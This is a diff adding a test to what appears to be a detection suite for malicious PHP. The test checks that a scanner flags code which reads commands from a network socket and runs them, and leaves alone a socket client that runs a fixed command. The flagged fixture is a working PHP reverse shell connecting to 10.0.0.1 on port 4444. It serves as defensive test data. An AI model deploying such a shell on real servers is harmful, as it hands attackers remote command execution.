@@ -344,3 +344,10 @@ echo $html;
 `;
   assert.ok(!reasons(findingOf('q.php', pager)).some((r) => r.startsWith('browsing proxy')));
 });
+
+test('php: commands read from a socket and run are a reverse shell; a socket client that runs a fixed command is not', () => {
+  const rev = `<?php\n$s = fsockopen("10.0.0.1", 4444);\nwhile (!feof($s)) {\n  $c = trim(fgets($s, 1024));\n  fputs($s, shell_exec($c));\n}\n`;
+  assert.ok(reasons(findingOf('r.php', rev)).includes('runs commands read from a network socket (reverse or bind shell)'));
+  const ok = `<?php\n$s = fsockopen("smtp.example.com", 25);\n$greeting = fgets($s, 512);\n$uptime = shell_exec("uptime");\nfputs($s, "HELO " . gethostname() . "\\r\\n");\n`;
+  assert.ok(!reasons(findingOf('s.php', ok)).includes('runs commands read from a network socket (reverse or bind shell)'));
+});
